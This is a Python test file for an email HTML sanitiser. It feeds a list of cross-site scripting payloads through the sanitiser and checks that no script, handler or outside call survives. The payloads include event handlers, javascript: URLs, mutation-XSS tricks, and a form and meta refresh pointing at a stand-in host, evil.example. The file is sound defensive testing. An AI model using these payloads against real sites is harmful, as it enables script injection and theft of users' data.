"""HTML of strangers is shown without anything that acts or calls home (threat 7)."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runner.mail_html import LONGEST, sanitise
from runner.markup import Tag, pieces


class _Seen(HTMLParser):
    """Another reader of HTML, to see what a browser would find."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.addresses: list[str] = []
        self.names: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("src", "href")]


def read(page: str) -> list[object]:
    """Give a page's pieces; the library writes attributes in any order."""
    return list(pieces(page))


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><g/onload=alert(2)//<p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='https://evil.example'><style>@import 'https://evil.example'</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<img src='https://evil.example/pixel.gif'><img srcset='https://evil.example 2x'>",
    "<table background='https://evil.example'><td background='https://evil.example'>x</table>",
    "<video poster='https://evil.example'><source src='https://evil.example'></video>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title='\"><img src=x onerror=alert(1)>' href='https://x.example'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_and_nothing_calls_home(attack: str) -> None:
    page = sanitise(f"<p>before</p>{attack}<p>after</p>")
    seen = _Seen(page)
    assert "<p>before</p>" in page
    harmless = {"a", "p", "img", "div", "table", "tbody", "tr", "td"}
    assert seen.tags <= harmless
    assert not {name for name in seen.names if name.startswith("on") or name == "style"}
    assert not {"background", "srcset", "poster", "action"} & seen.names
    assert not [each for each in seen.addresses if each != "https://x.example"]


def test_links_lead_out_and_tell_nothing() -> None:
    page = sanitise('<a href="https://x.example/?a=1&b=2" onclick=x>there</a>')
    told = {"target": "_blank", "rel": "noopener noreferrer nofollow"}
    link = Tag("a", attributes={"href": "https://x.example/?a=1&b=2", **told})
    assert read(page) == [link, "there", Tag("a", ends=True)]


def test_images_are_those_that_came_along() -> None:
    source = '<img src="cid:a@x" alt="logo"><img src="cid:b@x"><img src="https://x.example/i.png">'
    shown = Tag("img", attributes={"src": "/media/1", "alt": "logo"})
    assert read(sanitise(source, {"a@x": "/media/1"})) == [shown, Tag("img"), Tag("img")]


def test_images_from_elsewhere_are_shown_when_asked_for() -> None:
    source = '<img src="https://x.example/i.png"><img src="http://x.example/i.png">'
    assert sanitise(source, remote=True) == '<img src="https://x.example/i.png"><img>'


def test_texts_and_tables_stay() -> None:
    table = "<table><tbody><tr><td>x</td></tr></tbody></table>"
    page = f"<h1>Hi &amp; hello</h1><ul><li>1 &lt; 2</li></ul>{table}"
    assert sanitise(page) == page
    assert sanitise("<p>one<p>two") == "<p>one</p><p>two</p>"
    assert sanitise("1 < 2 and <nothing") == "1 &lt; 2 and &lt;nothing"


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<b>", "<a href=x>", "<blockquote>", "<table>", "<", '<a "', "<!--", "&amp"),
        *("<p><b>", "<b><table>", "</div>", "<b><p></b>", "<a 'b' \"", "<script>", "<p a='"),
    ],
)
def test_time_grows_with_the_length_alone(piece: str) -> None:
    begun = time.process_time()
    sanitise(piece * (LONGEST // len(piece)))
    assert time.process_time() - begun < 10


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*ATTACKS, "<", ">", "'", '"', "<p ", "</p>"]) | st.text(max_size=9))
)
def test_what_is_sanitised_stays_as_it_is(parts: list[str]) -> None:
    once = sanitise("".join(parts))
    assert read(sanitise(once)) == read(once)
    assert not {"script", "style", "iframe", "svg", "form"} & _Seen(once).tags


@given(st.text(alphabet="<>/!-='\" abp&;", max_size=60))
def test_reading_ends_and_loses_no_plain_text(source: str) -> None:
    found = list(pieces(source))
    assert all(each if isinstance(each, str) else isinstance(each, Tag) for each in found)
    if "<" not in source and "&" not in source:
        assert "".join(str(each) for each in found) == source
